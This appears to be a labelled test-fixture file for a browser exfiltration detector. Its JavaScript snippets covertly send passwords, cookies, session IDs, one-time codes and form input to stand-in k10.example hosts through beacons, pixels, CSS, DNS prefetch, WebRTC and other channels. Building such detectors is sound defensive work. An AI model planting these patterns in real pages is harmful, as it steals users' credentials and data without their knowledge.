//# fetch-request-with-url-object
// flow: email > fru.k10.example via fetch
const endpoint = new URL('/v2/subscribe', 'https://fru.k10.example');
endpoint.searchParams.set('mail', document.querySelector('input[type=email]').value);
fetch(new Request(endpoint, { mode: 'no-cors', keepalive: true }));

//# xhr-async-fallback-activex
// flow: password > xfa.k10.example via xhr
function makeXhr() {
  if (window.XMLHttpRequest) return new XMLHttpRequest();
  return new ActiveXObject('Microsoft.XMLHTTP');
}
var r = makeXhr();
r.open('POST', 'https://xfa.k10.example/a.asp', true);
r.onreadystatechange = function () { if (r.readyState == 4) alert('ok'); };
r.send('p=' + document.querySelector('input[type=password]').value);

//# beacon-with-blob
// flow: interaction > bwb.k10.example via beacon
const clicks = [];
document.addEventListener('click', ({ pageX, pageY }) => clicks.push({ pageX, pageY }));
addEventListener('pagehide', () => {
  const blob = new Blob([JSON.stringify({ clicks })], { type: 'application/json' });
  navigator.sendBeacon('https://bwb.k10.example/heat', blob);
});

//# beacon-bound
// flow: identifier > bbd.k10.example via beacon
const beam = navigator.sendBeacon.bind(navigator);
beam('https://bbd.k10.example/i', localStorage.getItem('installId'));

//# image-with-onerror-retry
// flow: identifier > ior.k10.example via image
function pixel(url, left) {
  var i = new Image(1, 1);
  i.onerror = function () { if (left > 0) pixel(url, left - 1); };
  i.src = url;
}
pixel('https://ior.k10.example/1x1.gif?c=' + encodeURIComponent(document.cookie), 3);

//# picture-source-set
// flow: device > pss.k10.example via image
const im = document.createElement('img');
im.srcset = `https://pss.k10.example/a.png?r=${devicePixelRatio} 1x`;
document.body.appendChild(im);

//# css-variable-url
// flow: identifier > cvu.k10.example via css
const st = document.createElement('style');
st.innerHTML = `.x{background:url("https://cvu.k10.example/b?u=${localStorage.getItem('uid')}")}`;
document.getElementsByTagName('head')[0].appendChild(st);

//# constructed-style-sheet
// no flow
// why: @import is not loaded in a constructed style sheet
const sheet0 = new CSSStyleSheet();
sheet0.replaceSync(`@import url("https://cssi.k10.example/?u=${localStorage.getItem('uid')}");`);
document.adoptedStyleSheets = [sheet0];

//# form-request-submit-hidden-target
// flow: username > frs.k10.example via form
const f = document.createElement('form');
Object.assign(f, { action: 'https://frs.k10.example/sso', method: 'post', target: 'ssoframe' });
const i1 = Object.assign(document.createElement('input'), { type: 'hidden', name: 'u', value: document.querySelector('input[autocomplete=username]').value });
f.append(i1);
document.body.append(f);
f.requestSubmit();

//# link-preload
// flow: identifier > lpl.k10.example via link
const pl = document.createElement('link');
pl.rel = 'preload';
pl.as = 'image';
pl.href = 'https://lpl.k10.example/p.png?s=' + sessionStorage.getItem('sid');
document.head.append(pl);

//# ping-set-attribute-generated-link
// flow: identifier > psg.k10.example via ping
const a = document.createElement('a');
a.href = 'https://shop.k10.example/';
a.setAttribute('ping', `https://psg.k10.example/out?u=${localStorage.getItem('uid')}`);
a.textContent = 'Shop';
document.body.append(a);

//# websocket-onopen-assign
// flow: message > woa.k10.example via websocket
const box = document.querySelector('textarea[name=message]');
const sock = new WebSocket('wss://woa.k10.example/chat', ['v1']);
sock.onopen = () => {
  document.querySelector('#send').addEventListener('click', () => { sock.send(JSON.stringify({ t: 'msg', body: box.value })); box.value = ''; });
};

//# eventsource-with-cookie
// flow: identifier > ewc.k10.example via eventsource
new EventSource('https://ewc.k10.example/live?c=' + encodeURIComponent(document.cookie));

//# rtc-ice-server-username
// flow: identifier > ris.k10.example via webrtc
const pc = new RTCPeerConnection({
  iceServers: [{ urls: 'turn:ris.k10.example:3478', username: localStorage.getItem('uid'), credential: 'x' }],
});
pc.createDataChannel('d');
pc.createOffer().then((o) => pc.setLocalDescription(o));

//# webtransport-datagrams
// flow: interaction > wtd.k10.example via webtransport
const wt = new WebTransport('https://wtd.k10.example:4433/rec');
await wt.ready;
const out = wt.datagrams.writable.getWriter();
addEventListener('pointermove', (e) => out.write(new TextEncoder().encode(`${e.clientX},${e.clientY}`)));

//# worker-from-blob-fetches
// flow: email > wbf.k10.example via fetch
const src = 'onmessage = (e) => fetch("https://wbf.k10.example/in", { method: "POST", body: e.data });';
const w = new Worker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
document.querySelector('input[type=email]').addEventListener('change', (e) => w.postMessage(e.target.value));

//# broadcast-channel-only
// no flow
// why: a channel between tabs of this origin
const bc = new BroadcastChannel('auth');
bc.postMessage({ pw: document.querySelector('input[type=password]').value });
bc.onmessage = (e) => console.log(e.data);

//# opener-post-message
// flow: otp > opm.k10.example via postmessage
document.querySelector('form').addEventListener('submit', (ev) => {
  ev.preventDefault();
  window.opener.postMessage({ code: document.querySelector('input[autocomplete=one-time-code]').value }, 'https://opm.k10.example');
  window.close();
});

//# frame-post-message-to-own-origin
// no flow
// why: the channel's other port is in the same script
const { port1, port2 } = new MessageChannel();
port1.onmessage = (e) => { document.querySelector('#copy').textContent = e.data; };
port2.postMessage(document.querySelector('textarea[name=message]').value);

//# navigation-top-location
// flow: search > ntl.k10.example via navigation
window.top.location = 'https://ntl.k10.example/results?q=' + encodeURIComponent(document.getElementById('search').value);

//# navigation-api
// flow: search > nap.k10.example via navigation
document.querySelector('#s').addEventListener('submit', (e) => {
  e.preventDefault();
  navigation.navigate(`https://nap.k10.example/find?q=${encodeURIComponent(document.querySelector('input[type=search]').value)}`);
});

//# anchor-download-blob
// no flow
// why: the file is saved on this computer
const d = document.createElement('a');
d.download = 'me.json';
d.href = URL.createObjectURL(new Blob([JSON.stringify({ mail: document.querySelector('input[type=email]').value })]));
d.click();

//# mailto-link
// no flow
// why: a mail address scheme opens the mail program; nothing is requested
location.href = 'mailto:help@k10.example?body=' + encodeURIComponent(document.querySelector('textarea[name=message]').value);

//# server-timing-console-only
// no flow
// why: console and marks stay in the browser
performance.mark('typed', { detail: document.querySelector('input[type=search]').value });
console.table({ q: document.querySelector('input[type=search]').value });
fetch('https://stc.k10.example/ok');

//# notification-local
// no flow
// why: a notification is shown by this computer
new Notification('Draft', { body: document.querySelector('textarea[name=message]').value });

//# html-set-in-template-string-iframe
// flow: email > hsi.k10.example via iframe
document.getElementById('slot').outerHTML =
  '<iframe src="https://hsi.k10.example/embed?m=' + encodeURIComponent(document.querySelector('input[type=email]').value) + '" hidden></iframe>';

//# script-jsonp-created-by-helper
// flow: phone > sjh.k10.example via script
function jsonp(u, params) {
  var q = []; for (var k in params) q.push(k + '=' + encodeURIComponent(params[k]));
  var s = document.createElement('script');
  s.async = 1; s.src = u + '?' + q.join('&');
  var first = document.getElementsByTagName('script')[0];
  first.parentNode.insertBefore(s, first);
}
jsonp('//sjh.k10.example/check', { tel: document.querySelector('input[type=tel]').value, cb: 'done' });

//# dns-prefetch-by-html
// flow: identifier > {}.x.dph.k10.example via dns
document.head.insertAdjacentHTML('beforeend', '<link rel="dns-prefetch" href="//' + localStorage.getItem('uid') + '.x.dph.k10.example">');

//# form-method-get-action-query-dropped
// no flow
// why: a GET form replaces the query of its action; its only field is a constant
const g = document.createElement('form');
g.method = 'get';
g.action = 'https://fgq.k10.example/s?u=' + localStorage.getItem('uid');
g.innerHTML = '<input name="page" value="1">';
document.body.append(g);
g.submit();
